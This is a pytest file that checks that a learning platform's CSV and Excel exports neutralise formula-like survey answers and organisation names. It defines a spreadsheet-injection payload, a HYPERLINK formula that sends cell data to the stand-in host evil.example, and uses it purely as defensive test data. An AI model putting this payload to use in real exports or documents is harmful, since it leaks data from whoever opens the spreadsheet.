"""Exports: an answer, a name or an organisation written as a formula stays text in every CSV and workbook."""

import csv
import io

import openpyxl
import pytest

from lms.core import exports
from lms.extensions import db
from lms.surveys.models import Survey

#: What an attacker types as an answer or an organisation's name: a link that sends the sheet's data away.
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def workbook_cells(response) -> list:
    assert response.mimetype == exports.XLSX
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_no_formula_in_csv(rows: list[list[str]]) -> None:
    assert [cell for row in rows for cell in row if exports.is_formula(cell)] == []


def assert_no_formula_in_workbook(cells) -> None:
    assert [cell.value for cell in cells if cell.data_type == "f"] == []


def test_formula_like_text_is_defused_and_numbers_stay_numbers():
    cells = [PAYLOAD, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", -3, -2.5, "-4", "-4.5", 0, "", None, "ok"]

    in_csv = csv_rows(exports.download([["a"] * len(cells), cells], "t.csv"))[1]
    in_workbook = workbook_cells(exports.download([cells], "t.xlsx"))

    assert in_csv == ["'" + PAYLOAD, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1", "-3", "-2.5", "-4", "-4.5"] + [
        "0",
        "",
        "",
        "ok",
    ]
    assert_no_formula_in_workbook(in_workbook)
    # The text exactly as typed, stored as text (openpyxl leaves a carriage return in its XML escape _x000D_).
    assert [cell.value.replace("_x000D_", "\r") for cell in in_workbook[:6]] == cells[:6]
    assert all(cell.quotePrefix for cell in in_workbook[:6])  # and editing the cell keeps it text
    assert [(cell.value, cell.data_type) for cell in in_workbook[6:8]] == [(-3, "n"), (-2.5, "n")]
    assert [(cell.value, cell.data_type) for cell in in_workbook[8:10]] == [("-4", "s"), ("-4.5", "s")]


@pytest.fixture
def answered_with_formula(app, make_app, evaluation, answers, days_pass):
    """Five anonymous responses from Slovenia a day ago, each answering the written question with the payload."""
    with app.app_context():
        token = db.session.get(Survey, evaluation).token
    for _number in range(5):
        make_app().test_client().submit(f"/surveys/s/{token}", {**answers(evaluation, word=PAYLOAD), "country": "SI"})
    days_pass(evaluation)
    return evaluation


@pytest.mark.parametrize("layout", ["google", "analysis"])
def test_a_survey_answer_written_as_a_formula_stays_text_in_both_exports(
    client, trainer, answered_with_formula, layout
):
    client.sign_in("trainer@example.eu")

    rows = csv_rows(client.get(f"/surveys/{answered_with_formula}/export.csv?layout={layout}"))
    cells = workbook_cells(client.get(f"/surveys/{answered_with_formula}/export.xlsx?layout={layout}"))

    assert len(rows) == 6 and sum(row.count("'" + PAYLOAD) for row in rows) == 5
    assert_no_formula_in_csv(rows)
    assert_no_formula_in_workbook(cells)
    assert [cell.value for cell in cells].count(PAYLOAD) == 5


def test_an_unknown_layout_is_the_google_one(client, trainer, evaluation):
    client.sign_in("trainer@example.eu")

    response = client.get(f"/surveys/{evaluation}/export.xlsx?layout=[x]*?")

    assert response.status_code == 200 and 'filename="survey-' in response.headers["Content-Disposition"]
    assert "-google.xlsx" in response.headers["Content-Disposition"]


def test_an_organisation_named_as_a_formula_stays_text_in_the_reports_and_dashboards(
    app, client, evaluation, answers, create_user, create_organisation
):
    town = create_organisation(PAYLOAD, "SI")
    create_user("ana@example.si", organisation_id=town)
    learner = app.test_client()
    learner.sign_in("ana@example.si")
    learner.submit("/courses/local-voices/enrol")
    client.sign_in("trainer@example.eu")

    report = csv_rows(client.get("/courses/local-voices/report?format=csv"))
    funnel = csv_rows(client.get(f"/dashboards/funnel.csv?survey={evaluation}"))
    others = [
        csv_rows(client.get(f"/dashboards/{table}.csv?survey={evaluation}"))
        for table in ("countries", "scales", "months", "support")
    ]

    assert ["Slovenia", "'" + PAYLOAD, "1", "0", "0"] in report
    assert funnel[1][:2] == ["Slovenia", "'" + PAYLOAD]
    for rows in [report, funnel, *others]:
        assert_no_formula_in_csv(rows)
